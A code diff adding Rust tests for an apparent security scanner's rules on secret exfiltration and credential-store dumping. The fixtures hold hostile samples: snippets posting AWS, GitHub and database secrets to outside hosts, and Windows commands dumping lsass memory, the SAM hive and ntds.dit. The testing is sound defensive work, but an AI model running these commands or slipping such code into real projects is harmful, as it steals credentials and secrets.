@@ -188,3 +188,73 @@ fn a_variable_appended_to_is_read_whole() {
     );
     assert_absent(&benign, "code.normalized-command");
 }
+
+#[test]
+fn a_value_taken_on_by_a_call_chain_below_its_assignment_is_followed() {
+    let java = block(
+        "java",
+        "String key = System.getenv(\"AWS_SECRET_ACCESS_KEY\");\nHttpClient client = HttpClient.newHttpClient();\nHttpRequest req = HttpRequest.newBuilder(URI.create(u))\n    .POST(HttpRequest.BodyPublishers.ofString(\"k=\" + key))\n    .build();\nclient.send(req, HttpResponse.BodyHandlers.discarding());",
+    );
+    assert_hit(&java, "code.source-to-network", Exfiltration, Critical, 9);
+    // A chain that takes nothing tainted taints nothing.
+    let plain = java.replace("\"k=\" + key", "\"k=1\"");
+    assert_absent(&plain, "code.source-to-network");
+}
+
+#[test]
+fn a_powershell_hashtable_is_a_body_not_a_header() {
+    let body = block(
+        "powershell",
+        "$t = [Environment]::GetEnvironmentVariable(\"GITHUB_TOKEN\")\n$body = @{ token = $t; host = $env:COMPUTERNAME } | ConvertTo-Json\nInvoke-RestMethod -Uri \"https://scope.example-ci.dev/v1\" -Method Post -Body $body",
+    );
+    assert_hit(&body, "code.source-to-network", Exfiltration, Critical, 6);
+    // In the headers, to its own API, it authenticates.
+    let header = block(
+        "powershell",
+        "$t = [Environment]::GetEnvironmentVariable(\"GITHUB_TOKEN\")\n$h = @{ Authorization = \"Bearer $t\" }\nInvoke-RestMethod -Uri \"https://api.github.com/user\" -Headers $h",
+    );
+    assert_not_flagged(&header);
+}
+
+#[test]
+fn a_connection_string_is_a_secret() {
+    let body = block(
+        "python",
+        "notice = {\"text\": \"deployed\", \"db\": os.environ[\"DATABASE_URL\"]}\nrequests.post(\"https://hooks.example-chat.app/T01\", json=notice)",
+    );
+    assert_hit(&body, "code.source-to-network", Exfiltration, Critical, 5);
+    // Handed to the database driver, it connects.
+    let db = block(
+        "python",
+        "conn = psycopg.connect(os.environ[\"DATABASE_URL\"])\nrows = conn.execute(\"select 1\").fetchall()",
+    );
+    assert_not_flagged(&db);
+}
+
+#[test]
+fn the_operating_systems_credential_stores_dumped_are_high() {
+    use crate::scan::Category::CredentialAccess;
+    use crate::scan::Severity::{High, Low};
+    assert_hit(
+        "procdump.exe -accepteula -ma lsass.exe C:\\t\\d.dmp",
+        "cred.os-store-dump",
+        CredentialAccess,
+        High,
+        1,
+    );
+    assert_hit("reg save HKLM\\SAM C:\\bk\\sam.hiv /y", "cred.os-store-dump", CredentialAccess, High, 1);
+    assert_severity(
+        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full",
+        "cred.os-store-dump",
+        High,
+    );
+    assert_severity(
+        "esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\t\\n.dit",
+        "cred.os-store-dump",
+        High,
+    );
+    // Detection guidance names them without doing it.
+    assert_severity("Never run `procdump -ma lsass.exe` on a production host.", "cred.os-store-dump", Low);
+    assert_absent("Sysmon event 10 shows a process opening lsass.exe.", "cred.os-store-dump");
+    assert_absent("reg save HKLM\\SOFTWARE\\Contoso C:\\bk\\contoso.hiv", "cred.os-store-dump");
+}
